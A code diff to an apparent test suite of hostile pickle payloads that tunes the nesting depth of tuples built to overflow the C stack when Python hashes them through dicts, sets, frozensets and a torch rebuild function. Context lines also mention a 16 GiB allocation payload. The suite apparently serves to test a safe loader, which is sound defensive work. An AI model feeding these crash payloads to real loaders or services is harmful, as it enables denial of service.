@@ -16,6 +16,7 @@ from attacks import CANARY, attack, register
 PROTO, STOP = b"\x80\x02", b"."
 REDUCE, BUILD, NEWOBJ = b"R", b"b", b"\x81"
 TUPLE1, TUPLE2 = b"\x85", b"\x86"
+DEEP = TUPLE1 * 300_000  # three times the depth at which a hash overflows a stack of 8 MiB
 
 
 def text(value: str) -> bytes:
@@ -398,7 +399,7 @@ hostile("bytes_of_a_number", "bytes, given a number, makes 16 GiB of zeros.", {"
 @attack
 def frozen_set_of_a_deep_tuple(folder: Path) -> Path:
     """A frozen set hashes what it holds, by recursion."""
-    deep = Raw(b"K\x01" + TUPLE1 * 1_000_000)
+    deep = Raw(b"K\x01" + DEEP)
     return archive(folder, {"x": call("builtins.frozenset", [deep])})
 
 
@@ -461,25 +462,25 @@ def tensors_that_share_their_sizes(folder: Path) -> Path:
 
 hostile(
     "hash_of_a_deep_tuple",
-    "A key that is a tuple a million deep: its hash overflows the C stack, which no exception tells.",
-    PROTO + b"})" + TUPLE1 * 1_000_000 + b"Ns.",
+    "A key that is a tuple in a tuple in a tuple: its hash overflows the C stack, which no exception tells.",
+    PROTO + b"})" + DEEP + b"Ns.",
 )
 hostile(
     "hash_of_a_deep_tuple_among_others",
     "The same among several keys that are set at once.",
-    PROTO + b"}(NN)" + TUPLE1 * 1_000_000 + b"Nu.",
+    PROTO + b"}(NN)" + DEEP + b"Nu.",
 )
 hostile(
     "hash_of_a_deep_tuple_in_a_set",
     "The same as the member of a set, whose making is a call.",
-    PROTO + name("builtins.set") + b"](" + b")" + TUPLE1 * 1_000_000 + b"e" + TUPLE1 + REDUCE + STOP,
+    PROTO + name("builtins.set") + b"](" + b")" + DEEP + b"e" + TUPLE1 + REDUCE + STOP,
 )
 
 
 @attack
 def hash_of_a_deep_tuple_by_rebuild(folder: Path) -> Path:
     """The same through a function that calls what it is given."""
-    arguments = name("builtins.set") + name("builtins.set") + b"](" + b")" + TUPLE1 * 1_000_000 + b"e" + TUPLE1 + b"N"
+    arguments = name("builtins.set") + name("builtins.set") + b"](" + b")" + DEEP + b"e" + TUPLE1 + b"N"
     return archive(
         folder, PROTO + name("torch._tensor._rebuild_from_type_v2") + b"(" + arguments + b"t" + REDUCE + STOP
     )
